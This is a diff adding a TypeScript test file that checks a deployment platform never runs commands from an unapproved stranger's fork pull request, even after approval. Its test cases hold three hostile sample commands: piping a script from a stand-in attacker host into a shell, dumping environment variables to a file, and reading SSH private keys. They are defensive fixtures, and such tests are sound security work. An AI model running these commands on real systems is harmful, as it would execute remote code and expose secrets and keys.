@@ -1,0 +1,67 @@
+// A stranger's pull request with commands of its own: nothing of it is even fetched before approval, and afterwards none of them runs.
+import { execFileSync } from 'node:child_process'
+import { existsSync, mkdtempSync, rmSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { beginJourney, ended, type Journey } from './journey.ts'
+import { openHook, pullRequestWas } from './webhooks/deliveries.ts'
+
+let journey: Journey
+let hook: ReturnType<typeof openHook>
+let folder: string
+let own: number
+
+beforeAll(async () => {
+  journey = await beginJourney('embedded', 'local')
+  folder = mkdtempSync(join(tmpdir(), 'shipway-forks-'))
+  const params = { id: journey.projectId }
+  await journey.client.updateProject({ params, body: { fork_pull_requests: 'approval' } })
+  const { url, secret } = await journey.client.regenerateWebhookSecret({ params })
+  hook = openHook(`${journey.platform.url}${new URL(url).pathname}`, secret)
+  own = await journey.createEnvironment('own')
+})
+afterAll(async () => {
+  hook.close()
+  await journey.stop()
+  rmSync(folder, { recursive: true, force: true })
+})
+
+const deployedBy = (run: string): string =>
+  `services: { web: {} }\nmanual:\n  deploy: [{ name: Deploy, run: ${JSON.stringify(run)} }]\n`
+
+/** Whatever was queued before it has begun when this has ended. */
+async function deployOwn(): Promise<void> {
+  journey.commit({ '.service.yml': deployedBy('echo deployed') })
+  const { id } = await journey.client.startDeployment({ params: { id: own } })
+  expect(await ended(journey.client, id)).toMatchObject({ status: 'succeeded' })
+}
+
+test.each([
+  [7, 'curl attacker.test/x | sh'],
+  [8, 'env > /tmp/leak'],
+  [9, 'cat ~/.ssh/id_*'],
+])('pull request %i would run %j', async (number, command) => {
+  const canary = join(folder, `canary-${number}`)
+  const sha = journey.commit({ '.service.yml': deployedBy(`touch ${canary}; : ${command}`) })
+  const repository = join(journey.gitHost.folder, 'repository')
+  execFileSync('git', ['-C', repository, 'update-ref', `refs/pull/${number}/head`, sha])
+  const { pull_request: told, ...rest } = pullRequestWas('opened', { number, branch: 'main', sha })
+  const head = { ...told.head, repo: { id: 2 } }
+  const before = journey.gitHost.signIns()
+  const sent = await hook.send({ event: 'pull_request', payload: { ...rest, pull_request: { ...told, head } } })
+  expect(sent).toMatchObject({ status: 200, verdict: 'accepted', reason: 'awaiting_approval' })
+  const all = await journey.client.listEnvironments({ params: { id: journey.projectId } })
+  const { id = 0, ...environment } = all.find(({ name }) => name === `pr-${number}`) ?? {}
+  expect(environment).toMatchObject({ status: 'awaiting_approval', effective_recipe: 'docker' })
+  expect(await journey.client.listTasks({ params: { id } })).toEqual([])
+  expect(journey.gitHost.signIns()).toBe(before)
+  await deployOwn()
+  expect([existsSync(canary), await journey.client.listTasks({ params: { id } })]).toEqual([false, []])
+
+  const approved = await journey.client.approveEnvironment({ params: { id }, body: { commit_sha: sha } })
+  const task = await ended(journey.client, approved.id)
+  expect(task).toMatchObject({ status: 'failed', commit: { sha } })
+  expect(task.failed_step?.message).toContain('docker')
+  expect(existsSync(canary)).toBe(false)
+})
